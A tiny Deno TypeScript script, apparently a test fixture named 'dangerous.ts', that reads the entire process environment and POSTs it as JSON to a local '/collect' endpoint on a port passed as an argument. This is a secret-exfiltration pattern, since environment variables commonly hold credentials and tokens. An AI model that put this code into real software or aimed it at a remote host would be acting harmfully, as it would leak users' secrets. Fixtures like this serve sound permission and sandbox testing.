// Reads the whole environment and posts it out: `dangerous.ts PORT`.
const environment = Deno.env.toObject();
const response = await fetch(`http://127.0.0.1:${Deno.args[0]}/collect`, {
  method: "POST",
  body: JSON.stringify(environment),
});
console.log("posted", response.status);
